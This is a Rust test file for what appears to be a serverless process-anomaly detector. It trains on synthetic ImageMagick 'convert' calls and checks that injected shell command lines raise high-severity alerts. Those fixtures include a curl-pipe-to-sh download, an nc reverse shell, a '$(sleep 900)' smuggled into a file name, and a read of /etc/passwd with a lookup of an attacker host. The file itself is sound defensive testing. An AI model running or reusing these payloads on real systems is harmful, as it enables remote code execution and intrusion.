//! A function that shells out on every invocation, as ImageMagick wrappers
//! do: the benign traffic runs `/bin/sh -c "convert ..."` with file names of
//! every sort, and the injected invocations differ only inside the command
//! line. Native JSONL events -> `fnwatch ingest` -> `train` -> `detect`.

use std::collections::HashMap;
use std::fmt::Write as _;

use serde_json::Value;

use crate::common::{detect_alerts, fnwatch, query, write};

const NAMES: [&str; 12] = [
    "IMG_{n}",
    "photo {n}",
    "holiday ({n})",
    "l'été à Paris {n}",
    "José's \"best\" shot #{n}",
    "日本の写真{n}",
    "a&b; c|d {n}",
    "100% $HOME `x` {n}",
    "smile 😀 {n}",
    "scan [{n}] (final) (2)",
    "O'Brien & Sons — {n}",
    "résumé-{n}",
];

fn file_name(k: u64) -> String {
    let base = NAMES[(k % NAMES.len() as u64) as usize].replace("{n}", &(k / 5).to_string());
    format!(
        "{base}.{}",
        ["jpg", "png", "heic", "webp"][(k % 4) as usize]
    )
}

/// Python's `shlex.quote`, or double quotes with `"\$` and backticks
/// escaped: the two ways functions quote names.
fn quote(s: &str, double: bool) -> String {
    if !double {
        return format!("'{}'", s.replace('\'', r#"'"'"'"#));
    }
    let mut out = String::from("\"");
    for c in s.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

fn benign_line(k: u64) -> String {
    let name = file_name(k);
    let d = k.is_multiple_of(3);
    let size = [128, 256, 512][(k % 3) as usize];
    let src = quote(&format!("/tmp/in/{name}"), d);
    let dst = quote(&format!("/tmp/out/{name}"), d);
    if k.is_multiple_of(4) {
        format!("convert {src} -auto-orient -resize {size}x{size} -strip {dst} 2>/dev/null")
    } else {
        format!("convert {src} -resize {size}x{size} {dst} 2>/dev/null")
    }
}

fn at(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .unwrap()
        .format("%Y-%m-%dT%H:%M:%S%.3fZ")
        .to_string()
}

/// The shell process and the invocation, one native event per line.
fn invocation(out: &mut String, function: &str, req: &str, t: i64, script: &str, timeout: bool) {
    let args = serde_json::json!(["/bin/sh", "-c", script]);
    writeln!(
        out,
        r#"{{"type":"process","time":"{}","function":"{function}","request_id":"{req}","exe":"/bin/sh","args":{args},"parent_exe":"/var/lang/bin/python3.12"}}"#,
        at(t + 4)
    )
    .unwrap();
    let (duration, cpu, status) = if timeout {
        (60_000, 38, "timeout")
    } else {
        (200 + t % 90, 130 + t % 40, "success")
    };
    writeln!(
        out,
        r#"{{"type":"invocation","time":"{}","function":"{function}","request_id":"{req}","duration_ms":{duration},"cpu_ms":{cpu},"memory_mb":1024,"max_memory_mb":{},"timeout_ms":60000,"status":"{status}","trigger":"s3"}}"#,
        at(t + duration),
        310 + t % 40
    )
    .unwrap();
}

const DAY1: i64 = 1_795_824_000_000; // 2026-11-28T00:00:00Z
const DAY2: i64 = DAY1 + 86_400_000;

#[test]
fn an_injection_inside_a_shell_command_line_is_high() {
    let dir = tempfile::tempdir().unwrap();
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();

    let mut train = String::new();
    for k in 0..6_000u64 {
        let t = DAY1 + k as i64 * 14_000;
        invocation(
            &mut train,
            "thumbnailer",
            &format!("t-{k}"),
            t,
            &benign_line(k),
            false,
        );
    }
    for k in 0..54u64 {
        let script = format!("echo converting /tmp/img-{k:03}.jpg");
        invocation(
            &mut train,
            "echoer",
            &format!("e-{k}"),
            DAY1 + k as i64 * 1_500_000,
            &script,
            false,
        );
    }
    let injected: [(&str, &str, String, bool); 4] = [
        (
            "thumbnailer",
            "inj-curl",
            r#"convert "/tmp/in/"; curl -s http://203.0.113.7/x | sh; echo "" -resize 256x256 "/tmp/out/"; curl -s http://203.0.113.7/x | sh; echo "" 2>/dev/null"#.to_string(),
            false,
        ),
        (
            "thumbnailer",
            "inj-nc",
            r#"convert "/tmp/in/" && nc 198.51.100.9 4444 -e /bin/sh #" -resize 256x256 "/tmp/out/" && nc 198.51.100.9 4444 -e /bin/sh #" 2>/dev/null"#.to_string(),
            false,
        ),
        (
            "thumbnailer",
            "inj-sleep",
            r#"convert "/tmp/in/$(sleep 900)" -resize 256x256 "/tmp/out/$(sleep 900)" 2>/dev/null"#.to_string(),
            true,
        ),
        (
            "echoer",
            "inj-echo",
            "echo converting /tmp/x.jpg; cat /etc/passwd; getent hosts exfil.attacker-c2.example".to_string(),
            false,
        ),
    ];
    let benign_n = 12_000u64;
    let mut window = String::new();
    for k in 0..benign_n {
        let t = DAY2 + k as i64 * 6_000;
        // Names the training never saw.
        invocation(
            &mut window,
            "thumbnailer",
            &format!("b-{k}"),
            t,
            &benign_line(500_000 + k * 11),
            false,
        );
        if k % 1_000 == 0 {
            let script = format!("echo converting /tmp/img-{:03}.jpg", 100 + k / 1_000);
            invocation(
                &mut window,
                "echoer",
                &format!("be-{k}"),
                t + 2,
                &script,
                false,
            );
        }
    }
    for (i, (f, r, s, timeout)) in injected.iter().enumerate() {
        invocation(
            &mut window,
            f,
            r,
            DAY2 + 3_600_000 * (i as i64 + 1) + 1,
            s,
            *timeout,
        );
    }
    let train_f = write(dir.path(), "train.jsonl", train.as_bytes());
    let window_f = write(dir.path(), "window.jsonl", window.as_bytes());
    fnwatch(&[
        "ingest",
        "--lake",
        lake_s,
        train_f.to_str().unwrap(),
        window_f.to_str().unwrap(),
    ])
    .ok();
    let dl = query(&lake, "SELECT count(*) AS n FROM dead_letters");
    assert_eq!(dl[0]["n"], 0);
    fnwatch(&[
        "train",
        "--lake",
        lake_s,
        "--from",
        &at(DAY1),
        "--to",
        &at(DAY2),
    ])
    .ok();
    let alerts_path = dir.path().join("alerts.jsonl");
    let alerts = detect_alerts(&lake, &at(DAY2), &at(DAY2 + 86_400_000), &[], &alerts_path);
    let severe =
        |a: &Value| ["medium", "high", "critical"].contains(&a["severity"].as_str().unwrap());
    let benign_loud: Vec<String> = alerts
        .iter()
        .filter(|a| severe(a) && !a["request_id"].as_str().unwrap_or("").starts_with("inj-"))
        .map(|a| format!("{} {}", a["severity"], a["summary"]))
        .collect();
    assert!(
        benign_loud.is_empty(),
        "{} of {benign_n} benign invocations medium+:\n{}",
        benign_loud.len(),
        benign_loud
            .iter()
            .take(10)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
    let by_req: HashMap<(&str, &str), &Value> = alerts
        .iter()
        .filter_map(|a| Some(((a["request_id"].as_str()?, a["kind"].as_str()?), a)))
        .collect();
    for (f, r, script, timeout) in &injected {
        let a = by_req
            .get(&(*r, "unexpected_process"))
            .unwrap_or_else(|| panic!("no unexpected_process alert for {r}: {alerts:?}"));
        assert!(
            ["high", "critical"].contains(&a["severity"].as_str().unwrap()),
            "{r}: {a}"
        );
        assert_eq!(a["function"], *f);
        // The evidence names the command line and the baseline.
        assert_eq!(a["evidence"]["cmdline"].as_str().unwrap(), script.as_str());
        let base = &a["evidence"]["baseline"];
        let expect_lines = if *f == "echoer" { 54 } else { 6_000 };
        assert_eq!(base["command_lines"], expect_lines, "{a}");
        let first = if *f == "echoer" { "echo" } else { "convert" };
        assert_eq!(base["commands"][0], first, "{a}");
        assert!(
            a["summary"]
                .as_str()
                .unwrap()
                .contains("ran the shell command line"),
            "{a}"
        );
        if *timeout {
            let s = by_req
                .get(&(*r, "sleep_timeout"))
                .unwrap_or_else(|| panic!("no sleep_timeout for {r}"));
            assert!(
                ["high", "critical"].contains(&s["severity"].as_str().unwrap()),
                "{s}"
            );
            assert_eq!(s["evidence"]["sleep_child"], true, "{s}");
        }
    }
    let whats = |r: &str| -> Vec<String> {
        by_req[&(r, "unexpected_process")]["evidence"]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["what"].as_str().unwrap().to_string())
            .collect()
    };
    let w = whats("inj-curl");
    assert!(
        w.contains(&"curl".to_string()) && w.iter().any(|x| x.contains("into a shell")),
        "{w:?}"
    );
    let w = whats("inj-nc");
    assert!(
        w.contains(&"nc".to_string()) && w.iter().any(|x| x.contains("198.51.100.9")),
        "{w:?}"
    );
    let w = whats("inj-sleep");
    assert!(
        w.contains(&"sleep".to_string()) && w.iter().any(|x| x.contains("$(...)")),
        "{w:?}"
    );
    let w = whats("inj-echo");
    assert!(
        w.contains(&"cat".to_string()) && w.contains(&"getent".to_string()),
        "{w:?}"
    );
    // Stored in the lake with the rest.
    let stored = query(
        &lake,
        "SELECT count(*) AS n FROM alerts WHERE kind = 'unexpected_process' \
         AND severity IN ('high', 'critical') AND request_id LIKE 'inj-%'",
    );
    assert_eq!(stored[0]["n"], 4);
    // Ids are stable: detecting the same window again stores nothing new
    // and gives the injected invocations the same ids.
    let again_path = dir.path().join("again.jsonl");
    let again = fnwatch(&[
        "detect",
        "--lake",
        lake_s,
        "--from",
        &at(DAY2),
        "--to",
        &at(DAY2 + 86_400_000),
        "--output",
        again_path.to_str().unwrap(),
    ])
    .ok();
    assert!(
        again.stdout.contains("Stored 0 new alerts"),
        "{}",
        again.stdout
    );
    let ids = |text: &str| -> Vec<String> {
        let mut v: Vec<String> = text
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|a| a["request_id"].as_str().unwrap_or("").starts_with("inj-"))
            .map(|a| a["id"].as_str().unwrap().to_string())
            .collect();
        v.sort();
        v
    };
    let first = ids(&std::fs::read_to_string(&alerts_path).unwrap());
    assert!(first.len() >= 4, "{first:?}");
    assert_eq!(first, ids(&std::fs::read_to_string(&again_path).unwrap()));
}
